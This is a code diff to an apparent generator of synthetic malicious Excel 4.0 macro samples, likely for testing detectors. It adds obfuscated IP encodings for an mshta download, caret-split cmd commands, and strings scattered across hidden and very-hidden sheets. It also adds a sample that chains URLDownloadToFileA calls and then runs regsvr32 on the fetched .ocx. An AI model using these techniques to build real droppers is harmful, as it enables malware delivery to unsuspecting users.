@@ -48,10 +48,19 @@ def book(draw: Random, macro: Cells, start: str, names: tuple[NamePlan, ...] = (
 def mshta(draw: Random) -> Sample:
     """2021-12 to 2022-01: cmd with carets, mshta of a page on a bare number, in a defined name or in a cell."""
     path = f"{letters(draw, 2, 5)}/{letters(draw, 2, 4)}/{draw.choice(('fe', 'fer', 'se'))}{draw.randint(0, 9)}.html"
-    plain = f"mshta http://192.0.2.{draw.randint(1, 254)}/{path}"
+    last = draw.randint(1, 254)
+    host = draw.choice((f"192.0.2.{last}", f"0xc00002{last:02x}", f"0300.0000.0002.{last:04o}", str(0xC0000200 + last)))
+    plain = f"mshta http://{host}/{path}"
     command = f"cmd /c {'^'.join(plain)}"
     variable = letters(draw, 4, 6, string.ascii_uppercase)
-    if draw.random() < 0.6:
+    way = draw.random()
+    if way < 0.2:
+        store: Cells = {}
+        joined = _strewn(draw, command, {"Tab1": store})
+        plan = book(
+            draw, {"J1": f"=EXEC({joined})", "J2": "=HALT()"}, "$J$1", (), (SheetPlan("Tab1", store, "worksheet", "hidden"),)
+        )
+    elif way < 0.7:
         names = (NamePlan(variable, f'"{command}"', "@", hidden=True),)
         plan = book(draw, {"J1": f"=EXEC({variable})", "J2": "=HALT()"}, "$J$1", names)
     else:
@@ -64,7 +73,7 @@ def scripts(draw: Random) -> Sample:
     vbs, bat = (f"C:\\ProgramData\\{letters(draw, 6, 12)}" for _ in range(2))
     macro: Cells = {
         "A1": f'=FOPEN("{vbs}.vbs",3)',
-        "A2": f'=FWRITELN(A1,"Set w = CreateObject(""WScript.Shell"")")',
+        "A2": '=FWRITELN(A1,"Set w = CreateObject(""WScript.Shell"")")',
         "A3": f'=FWRITELN(A1,"w.Run ""{bat}.bat"",0")',
         "A4": "=FCLOSE(A1)",
         "A5": f'=FOPEN("{bat}.bat",3)',
@@ -76,8 +85,10 @@ def scripts(draw: Random) -> Sample:
     return file(draw, book(draw, macro, "$A$1"), draw.choice(("xls", "xlsm", "xlsb")))
 
 
-def listed(draw: Random, urls: list[str], stem: str, end: str, *, loader: str = "regsvr32.exe /S ", folder: str = "..\\") -> BookPlan:
-    """Each address is tried if the one before gave nothing; then the loader. Addresses in the call, in pieces, or in another sheet."""
+def listed(
+    draw: Random, urls: list[str], stem: str, end: str, *, loader: str = "regsvr32.exe /S ", folder: str = "..\\"
+) -> BookPlan:
+    """Each address is tried if the one before gave nothing; then the loader. Addresses whole, in pieces, or elsewhere."""
     form = draw.choice(("plain", "joined", "cells"))
     store: Cells = {}
     macro: Cells = {}
@@ -111,6 +122,40 @@ def downloads(draw: Random) -> Sample:
     stem = letters(draw, 2, 6)
     plan = listed(draw, addresses(draw, draw.randint(3, 7)), stem, draw.choice(("ocx", "ocx", "dll")))
     return file(draw, plan, draw.choice(("xls", "xls", "xlsm", "xlsb")))
+
+
+def _strewn(draw: Random, text: str, sheets: dict[str, Cells]) -> str:
+    """*text* as a formula that joins pieces out of cells of *sheets*."""
+    parts, at = [], 0
+    while at < len(text):
+        step = draw.randint(3, 30)
+        name = draw.choice(tuple(sheets))
+        cell = f"{draw.choice('BCDEFGHIJK')}{draw.randint(2, 400)}"
+        while cell in sheets[name]:
+            cell = f"{draw.choice('BCDEFGHIJK')}{draw.randint(2, 400)}"
+        # Text beginning with "=" would be a formula of its own there.
+        sheets[name][cell] = text[at : at + step]
+        parts.append(f"{name}!${cell[0]}${cell[1:]}")
+        at += step
+    return "&".join(parts)
+
+
+def written(draw: Random) -> Sample:
+    """2022-02 on: FORMULA joins the calls out of pieces in hidden sheets and writes them below itself."""
+    stem, variable, target = letters(draw, 2, 6), letters(draw, 4, 5, string.ascii_uppercase), draw.choice("EFG")
+    stores: dict[str, Cells] = {f"{letters(draw, 2, 3).capitalize()}{number}": {} for number in range(draw.randint(2, 3))}
+    calls = []
+    for number, url in enumerate(addresses(draw, draw.randint(3, 7))):
+        call = f'CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{url}","..\\{stem}{number}.ocx",0,0)'
+        calls.append(f"={call}" if number == 0 else f"=IF({variable}<0,{call})")
+    calls += [f"=IF({variable}<0,CLOSE(0),)", f'=EXEC("C:\\Windows\\SysWow64\\regsvr32.exe /S ..\\{stem}0.ocx")', "=RETURN()"]
+    macro: Cells = {}
+    for row, call in enumerate(calls, 1):
+        macro[f"{target}{row}"] = f'=FORMULA("="&{_strewn(draw, call[1:], stores)},{target}{row + 40})'
+    macro[f"{target}{len(calls) + 1}"] = f"=GOTO({target}41)"
+    others = tuple(SheetPlan(name, cells, "worksheet", "very-hidden") for name, cells in stores.items())
+    plan = book(draw, macro, f"${target}$1", (NamePlan(variable, f"@!${target}$41"),), others)
+    return file(draw, plan, draw.choice(("xls", "xlsm", "xlsb")))
 
 
 def own_folder(draw: Random) -> Sample:
